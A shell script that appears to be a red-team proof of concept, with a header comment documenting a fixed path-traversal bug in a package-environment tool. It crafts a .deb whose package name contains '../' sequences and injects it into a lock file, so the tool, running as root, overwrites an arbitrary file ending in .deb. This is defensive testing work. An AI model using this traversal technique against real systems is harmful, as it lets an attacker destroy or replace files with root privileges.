#!/bin/sh
# HIGH (fixed on wt-red: Lock::parse checks Debian syntax, deb_file_name quotes `/`). make_repo
# names each repository file NAME_VERSION_ARCH.deb from the lock entry, quoting `_ : %` but not
# `/`, and removes whatever is there before hard-linking the store's file. A lock entry whose
# name is ../../../../../../../../../var/tmp/red-pwn (a hand-made .deb whose control says so;
# dpkg-deb --field prints it unchecked) deletes and replaces /var/tmp/red-pwn_1_all.deb on the
# host, as root: any non-directory whose path ends in .deb.
set -eu
: "${ENVC:?}" "${ENVC_STORE:?}" "${RED:?}"
mkdir -p "$RED/trav" && cd "$RED/trav"
rm -rf c d && mkdir c d
printf 'Package: ../../../../../../../../../var/tmp/red-pwn\nVersion: 1\nArchitecture: all\nMaintainer: r <r@x>\nDescription: x\n' > c/control
tar -C c -czf control.tar.gz ./control && tar -C d -czf data.tar.gz . && echo 2.0 > debian-binary
rm -f t.deb && ar rc t.deb debian-binary control.tar.gz data.tar.gz
sed 's/"reda"/"redtrav"/' ../a/env.kdl > env.kdl
python3 - "$(sha256sum t.deb | cut -d' ' -f1)" "$(stat -c %s t.deb)" "$RED/trav" <<'EOT'
import re, sys
sha, size, mirror = sys.argv[1:]
t = open('../a/env.lock').read()
i = t.index('[[step]]')
line = re.search(r'  \{ name = "hello".*\n', t[i:]).group(0)
e = f'  {{ name = "../../../../../../../../../var/tmp/red-pwn", version = "1", arch = "all", size = {size}, sha256 = "{sha}", path = "t.deb", mirror = "file:{mirror}" }},\n'
open('env.lock', 'w').write(t[:i] + t[i:].replace(line, line + e, 1))
EOT
echo "victim: precious data" > /var/tmp/red-pwn_1_all.deb
"$ENVC" --color never apply env.kdl 2>&1 | grep -v '^\[' | head -3 || true
ls -li /var/tmp/red-pwn_1_all.deb; head -c 7 /var/tmp/red-pwn_1_all.deb; echo
rm -f /var/tmp/red-pwn_1_all.deb
